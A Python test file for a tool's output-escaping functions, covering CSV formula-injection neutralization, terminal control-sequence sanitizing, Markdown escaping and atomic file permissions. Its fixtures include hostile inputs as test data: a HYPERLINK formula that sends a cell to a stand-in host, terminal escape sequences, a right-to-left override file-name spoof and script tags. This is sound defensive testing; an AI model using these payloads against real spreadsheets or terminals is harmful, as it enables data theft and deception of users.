"""Untrusted text at the boundaries: spreadsheets, terminals, Markdown; atomic 0600 files."""

from __future__ import annotations

import csv
import io
import os
import stat
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from screener.core.errors import OutputError
from screener.core.escape import csv_safe, may_trigger, md_cell, neutralize, visible
from screener.data.write import atomic_write, render_csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://x.invalid/?"&A2,"CV")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "+44 20 7946 0000",
])
def test_formula_triggers_get_a_quote(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["José Müller", "", "'=1+1", "a=b", "5+", "NA"])
def test_harmless_cells_unchanged(cell: str) -> None:
    assert neutralize(cell) == cell


@given(st.text())
def test_neutralize_is_idempotent_and_leaves_no_trigger(cell: str) -> None:
    once = neutralize(cell)
    assert neutralize(once) == once
    if once and not once.startswith("'"):
        assert once[0] not in TRIGGERS and once.lstrip()[:1] not in TRIGGERS


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_round_trip_keeps_every_cell(cells: list[str]) -> None:
    frame = pd.DataFrame({f"c{i}": [v] for i, v in enumerate(cells)}, dtype=object)
    frame["score"] = [1.5]
    text = render_csv(frame, bom=True).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    for i, value in enumerate(cells):
        assert row[f"c{i}"] == neutralize(csv_safe(value))  # exact, but NUL written as ␀
    assert row["score"] == "1.5"


@given(st.lists(st.one_of(st.text(), st.sampled_from(["", " =1", "\x01=1", "a,b", '"q"', "x\r\ny"])),
                min_size=0, max_size=30))
def test_csv_column_of_many_rows_round_trips(cells: list[str]) -> None:
    # The renderer tests a whole column at once for triggers and quoting; every cell must still
    # come back exactly as neutralize() makes it (NUL written as ␀), in a file the csv module reads.
    frame = pd.DataFrame({"text": cells, "n": range(len(cells))}, dtype=object)
    frame["n"] = frame["n"].astype(int)
    text = render_csv(frame, bom=False).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["text"] for r in rows] == [neutralize(csv_safe(c)) for c in cells]
    assert [r["n"] for r in rows] == [str(i) for i in range(len(cells))]


@given(st.lists(st.one_of(st.floats(), st.sampled_from([0.0, -0.0, 4.5, 9.0])), min_size=1, max_size=40))
def test_a_float_column_is_written_as_each_number_shortest_repr(values: list[float]) -> None:
    # Each distinct number is formatted once and copied to its rows: -0.0 must stay -0.0, NaN
    # empty, and every row its own value.
    frame = pd.DataFrame({"x": pd.Series(values, dtype=float)})
    rows = render_csv(frame, bom=False).decode("utf-8").split("\r\n")[1:-1]
    assert rows == ["" if v != v else str(v) for v in values]  # numbers are not text: no quote


@given(st.lists(st.text(), max_size=20))
def test_may_trigger_misses_no_cell_that_needs_neutralizing(cells: list[str]) -> None:
    if not may_trigger("\x01" + "\x01".join(cells)):
        assert all(neutralize(c) == c for c in cells)


@given(st.text())
def test_visible_leaves_nothing_a_terminal_acts_on(text: str) -> None:
    shown = visible(text)
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in shown)


def test_visible_examples() -> None:
    assert visible("Eve\x1b]0;PWNED\x07\x1b[2J") == "Eve\\x1b]0;PWNED\\x07\\x1b[2J"
    assert visible("\u202egnp.exe") == "\\u202egnp.exe"
    assert visible("a\x9b31m") == "a\\x9b31m"
    assert visible("line\nbreak", keep_newlines=True) == "line\nbreak"
    assert visible("x" * 10, limit=5) == "xxxx…"


def test_markdown_cells_render_no_markup() -> None:
    assert md_cell("<script>a|b</script> *x* [l](u)") == (
        "&lt;script&gt;a\\|b&lt;/script&gt; \\*x\\* \\[l\\](u)")
    assert md_cell("two\nlines") == "two<br>lines"


def test_atomic_write_is_0600_and_leaves_no_temp(tmp_path: Path) -> None:
    target = tmp_path / "sub" / "out.csv"
    atomic_write(target, b"new")
    assert target.read_bytes() == b"new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(os.listdir(target.parent)) == ["out.csv"]


def test_atomic_write_to_a_folder_fails_clearly(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="it is a folder"):
        atomic_write(tmp_path, b"x")


def test_writing_to_dev_null_leaves_it_a_device() -> None:
    import screener.data.write as write

    write.write_bytes(b"data", "/dev/null")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
